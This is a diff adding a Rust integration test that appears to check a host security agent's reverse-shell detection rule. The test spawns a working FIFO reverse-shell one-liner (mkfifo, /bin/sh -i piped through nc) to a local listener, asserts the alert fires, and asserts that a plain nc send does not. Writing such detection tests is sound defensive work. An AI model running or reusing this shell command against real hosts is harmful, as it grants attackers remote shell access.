@@ -11,6 +11,7 @@ use std::io::{Read, Write};
 use std::net::TcpListener;
 use std::os::unix::fs::symlink;
 use std::process::Command;
+use std::time::Duration;
 
 use common::scenario::{Attacker, CONFIG, Cleanup, alerts, sh};
 use common::{Agent, get, pid_of, privileged, unique};
@@ -243,4 +244,61 @@ fn permission_and_attribute_tampering() {
             (73, format!("{hist} deleted")),
         ]
     );
+}
+
+#[test]
+fn a_shell_wired_to_nc_through_a_fifo_is_a_reverse_shell() {
+    if !privileged("a_shell_wired_to_nc_through_a_fifo_is_a_reverse_shell") {
+        return;
+    }
+    let fifo = format!("/tmp/{}", unique("fifo"));
+    let _guard = Cleanup(vec![fifo.clone()]);
+    let attacker = Attacker::new();
+    let quiet = Attacker::new();
+    let port = quiet.port;
+    let agent = Agent::start(CONFIG);
+    let marker = unique("relay");
+    let line = format!(
+        "rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc -q 0 127.0.0.1 {} > {fifo}",
+        attacker.port
+    );
+    let mut c = Command::new("/bin/sh").args(["-c", &line]).spawn().unwrap();
+    let relay = c.id();
+    assert!(attacker.drive(&marker).contains(&marker));
+    c.wait().unwrap();
+    // Near miss: a command's output sent with nc.
+    let send = std::thread::spawn(move || {
+        let (mut conn, _) = quiet.listener.accept().unwrap();
+        let mut out = String::new();
+        let _ = conn.read_to_string(&mut out);
+        out
+    });
+    let plain = sh(&format!("echo {marker} | nc -q 0 127.0.0.1 {}", port));
+    assert!(send.join().unwrap().contains(&marker));
+    agent.wait_for("the relay's alert", |r| {
+        r["record_type"] == "alert"
+            && get(r, "rule.id") == "rg-reverse-shell"
+            && get(r, "process.parent.pid") == relay
+    });
+    std::thread::sleep(Duration::from_millis(200));
+    let (status, records, stderr) = agent.stop();
+    assert!(status.success(), "{stderr}");
+    let of = |parent: u32| -> Vec<&Value> {
+        alerts(&records, "rg-reverse-shell")
+            .into_iter()
+            .filter(|a| get(a, "process.parent.pid") == parent)
+            .collect()
+    };
+    let mine = of(relay);
+    assert_eq!(mine.len(), 1, "{mine:#?}");
+    assert_eq!(get(mine[0], "event.severity"), 73);
+    assert!(
+        message(mine[0]).ends_with(&format!(
+            "network relay /usr/bin/nc started by pid {relay} within 2 s of each \
+             other: one pipeline"
+        )),
+        "{}",
+        message(mine[0])
+    );
+    assert!(of(plain).is_empty(), "{:#?}", of(plain));
 }
